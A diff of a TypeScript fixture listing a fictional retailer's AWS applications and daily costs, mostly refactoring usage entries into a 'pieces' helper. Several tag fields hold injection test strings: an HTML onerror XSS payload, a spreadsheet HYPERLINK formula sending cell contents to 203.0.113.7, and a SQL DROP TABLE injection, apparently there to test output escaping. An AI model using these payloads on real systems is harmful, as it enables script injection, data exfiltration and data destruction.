@@ -1,5 +1,5 @@
 /** What Larkfield runs on AWS. */
-import type { App, Use } from './app.ts';
+import { type App, type Use, pieces } from './app.ts';
 
 const EAST = 'us-east-1';
 const sp = (daily: number, resources = 2): Use => ({ daily, resources, commitment: 'aws-compute' });
@@ -14,7 +14,7 @@ export const AWS_APPS: readonly App[] = [
   { team: 'Storefront', tagKey: 'Team', account: 'retail-prod', app: 'product-images', region: EAST, pattern: 'shop', growth: 0.7, uses: {
     'cdn.bytes': some(540, 3), 'cdn.requests': some(128, 3), 's3.storage': stored(265, 1.6, 3), 's3.read': 34, 's3.write': 11, 'lambda.seconds': some(58, 2), 'lambda.requests': 9, mediaconvert: { daily: 72, pattern: 'batch' } } },
   { team: 'storefront', account: 'retail-staging', app: 'web', region: EAST, environment: 'staging', pattern: 'office', growth: 0.2, uses: {
-    't3.large': some(64, 3), 'rds.m6g.xlarge': { daily: 31, pattern: 'flat' }, 'alb.hours': { daily: 6, resources: 6, pattern: 'flat' }, 'ebs.gp2': stored(38, 0.2, 3), 'nat.hours': { daily: 3.3, pattern: 'flat', growth: 0 }, 'ipv4.idle': { daily: 2.9, resources: 4, pattern: 'flat', growth: 0.8 } } },
+    't3.large': some(64, 3), 'rds.m6g.xlarge': { daily: 31, pattern: 'flat' }, 'alb.hours': pieces(6, 0.54), 'ebs.gp2': stored(38, 0.2, 3), 'nat.hours': { daily: 3.3, pattern: 'flat', growth: 0 }, 'ipv4.idle': pieces(6, 0.12) } },
   { team: 'search', account: 'retail-prod', app: 'search-index', region: EAST, pattern: 'shop', growth: 0.6, uses: {
     'search.r6g.2xlarge': { daily: 520, resources: 3, pattern: 'flat', commitment: 'aws-search' }, 'search.storage': stored(58), 'c7g.2xlarge': sp(290, 2), 'alb.lcu': 31, crossaz: 38, 'logs.ingest': 23, 'dynamo.read': some(47, 2), 'dynamo.storage': stored(12) } },
   { team: 'search', account: 'retail-prod', app: 'semantic-search', region: EAST, pattern: 'shop', growth: 7, from: '2025-03-11', uses: { 'bedrock.embed': 6, 'g5.2xlarge': some(87, 2), 'bedrock.haiku.in': 14, 'bedrock.haiku.out': 11 } },
@@ -34,14 +34,14 @@ export const AWS_APPS: readonly App[] = [
   { team: 'delivery', account: 'fulfillment-prod', app: 'route-planner', region: 'us-west-2', pattern: 'office', growth: 0.6, uses: {
     'c6i.4xlarge': sp(312, 3), 'aurora.r6g.4xlarge': { daily: 99.6, resources: 2, pattern: 'flat', growth: 0 }, 'aurora.io': 38, apigateway: 22, 'fargate.cpu': sp(74), 'fargate.memory': sp(25), 'logs.ingest': 21 } },
   { team: 'inventory', account: 'fulfillment-prod', app: 'stock-ledger', region: 'us-west-2', pattern: 'shop', growth: 0.5, uses: {
-    'm4.2xlarge': { daily: 57.6, resources: 6, pattern: 'flat', growth: 0 }, 'rds.r6g.2xlarge': ri(86), 'dynamo.write': some(71, 2), 'dynamo.read': 39, eventbridge: 21, msk: { daily: 88, resources: 3, pattern: 'flat' }, 'ebs.gp2': stored(33, 0.1, 3) } },
-  { team: null, account: 'fulfillment-prod', app: 'legacy-erp-bridge', region: 'us-west-2', pattern: 'flat', growth: 0, taggedFrom: '2026-05-01', taggedTeam: 'warehouse', tags: { owner: 'unknown' }, uses: { 'm4.2xlarge': some(38.4, 4), dms: some(26.6, 3), 'ebs.gp2': stored(21, 0, 2), 'ipv4.idle': some(1.2, 2) } },
+    'm4.2xlarge': pieces(6, 9.6), 'rds.r6g.2xlarge': ri(86), 'dynamo.write': some(71, 2), 'dynamo.read': 39, eventbridge: 21, msk: { daily: 88, resources: 3, pattern: 'flat' }, 'ebs.gp2': stored(33, 0.1, 3) } },
+  { team: null, account: 'fulfillment-prod', app: 'legacy-erp-bridge', region: 'us-west-2', pattern: 'flat', growth: 0, taggedFrom: '2026-05-01', taggedTeam: 'warehouse', tags: { owner: 'unknown' }, uses: { 'm4.2xlarge': pieces(4, 9.6), dms: some(26.6, 3), 'ebs.gp2': stored(21, 0, 2), 'ipv4.idle': pieces(4, 0.12) } },
   { team: 'partner-api', account: 'partner-api-prod', app: 'partner-gateway', region: EAST, pattern: 'office', growth: 1.3, uses: {
     apigateway: some(131, 3), 'lambda.seconds': some(98, 3), 'lambda.requests': 21, 'fargate.cpu': sp(166, 2), 'fargate.memory': sp(57, 2), 'dynamo.read': 44, 'cache.r6g.xlarge': { daily: 59, pattern: 'flat', resources: 2 }, egress: 48, waf: 18, 'logs.ingest': some(42, 2) } },
   { team: 'partner api', tagKey: 'Team', account: 'partner-api-prod', app: 'webhooks', region: 'eu-central-1', pattern: 'office', growth: 1.5, uses: { sqs: some(32, 2), sns: some(47, 2), 'lambda.seconds': some(39, 2), 'dynamo.write': 28, ses: 16 } },
   { team: 'merchant-ads', account: 'ads-prod', app: 'ad-server', region: EAST, pattern: 'shop', growth: 0.2, to: '2026-03-31', uses: {
     'c7g.2xlarge': sp(420, 3), 'cache.r6g.xlarge': { daily: 158, resources: 4, pattern: 'flat', commitment: 'aws-cache-ads', growth: 0 }, 'dynamo.read': some(88, 2), kinesis: some(52, 2), 'alb.lcu': 43, egress: 61, 's3.storage': stored(38), 'logs.ingest': 29, 'nat.bytes': 21 } },
-  { team: 'merchant-ads', account: 'ads-prod', app: 'ad-archive', region: EAST, pattern: 'stored', growth: 0, from: '2026-04-01', uses: { 's3.storage': some(47, 2), 'cache.r6g.xlarge': { daily: 24, pattern: 'flat', commitment: 'aws-cache-ads' }, 'ipv4.idle': some(2.6, 5), 'alb.hours': some(2.2, 4) } },
+  { team: 'merchant-ads', account: 'ads-prod', app: 'ad-archive', region: EAST, pattern: 'stored', growth: 0, from: '2026-04-01', uses: { 's3.storage': some(47, 2), 'cache.r6g.xlarge': { daily: 24, pattern: 'flat', commitment: 'aws-cache-ads' }, 'ipv4.idle': pieces(8, 0.12), 'alb.hours': pieces(4, 0.54) } },
   { team: 'data-platform', account: 'data-lake-prod', app: 'lake', region: EAST, pattern: 'batch', growth: 0.9, uses: {
     's3.storage': stored(512, 2.1, 6), 's3.write': some(68, 2), 's3.read': some(41, 2), glue: some(284, 5), athena: some(121, 3), emr: some(63, 2), 'r6i.2xlarge': some(214, 3), msk: { daily: 176, resources: 3, pattern: 'flat' }, kinesis: some(61, 3), crossaz: 46, trail: 17 } },
   { team: 'data platform', tagKey: 'Team', account: 'data-lake-prod', app: 'cdc-replication', region: EAST, pattern: 'flat', growth: 0.3, uses: { dms: some(71, 4), 'logs.ingest': 13, 's3.storage': stored(26) } },
@@ -56,7 +56,7 @@ export const AWS_APPS: readonly App[] = [
   { team: 'cloud-platform', account: 'shared-services', app: 'build', region: EAST, pattern: 'office', growth: 0.8, uses: {
     codebuild: some(186, 4), ecr: stored(58, 2.2, 3), 'm6i.2xlarge': sp(214, 2), efs: stored(49), 'ebs.gp3': stored(43), backup: stored(66, 1.5), metrics: { daily: 74, pattern: 'flat' }, 'logs.ingest': 31 } },
   { team: 'corporate-it', account: 'shared-services', app: 'contact-center', region: EAST, pattern: 'office', growth: 0.4, uses: { connect: some(148, 2), ses: 21, 'lambda.seconds': 8 } },
-  { team: null, account: 'retail-prod', app: 'campaign-2023', region: EAST, pattern: 'flat', growth: 0, tags: { note: `<img src=x onerror="alert('campaign')">` }, uses: { 'm6i.2xlarge': some(111, 2), 'rds.m6g.xlarge': some(23, 2), 'ebs.gp2': stored(29, 0, 2), 'alb.hours': some(2.7, 3), 'ipv4.idle': some(1.6, 3) } },
+  { team: null, account: 'retail-prod', app: 'campaign-2023', region: EAST, pattern: 'flat', growth: 0, tags: { note: `<img src=x onerror="alert('campaign')">` }, uses: { 'm6i.2xlarge': some(111, 2), 'rds.m6g.xlarge': some(23, 2), 'ebs.gp2': stored(29, 0, 2), 'alb.hours': pieces(5, 0.54), 'ipv4.idle': pieces(3, 0.12) } },
   { team: null, account: 'retail-prod', app: 'shared-buckets', region: EAST, pattern: 'stored', growth: 1.4, tags: { note: `=HYPERLINK("http://203.0.113.7/?q="&A1,"invoice")` }, uses: { 's3.storage': some(119, 3), 'ebs.snapshot': { daily: 66, growth: 1.2, resources: 3 }, 'logs.storage': 28 } },
   { team: null, account: 'retail-prod', app: 'feature-flags', region: EAST, pattern: 'shop', growth: 0.6, taggedFrom: '2025-09-15', taggedTeam: 'storefront', uses: { 'fargate.cpu': some(88, 2), 'fargate.memory': some(29, 2), 'dynamo.read': 33 } },
   { team: 'skunkworks', account: 'sandbox', app: 'experiments', region: 'us-west-2', environment: 'dev', pattern: 'office', growth: 1.2, tags: { created_by: `o'brien"; DROP TABLE charges; --` }, uses: { 't3.large': some(57, 4), 'g5.2xlarge': some(94, 3), 'sm.notebook': some(31, 4), 'ebs.gp2': stored(19, 1, 3), 'bedrock.sonnet.in': 11, 'bedrock.sonnet.out': 17, 'nat.hours': { daily: 3.2, pattern: 'flat', growth: 0 } } },
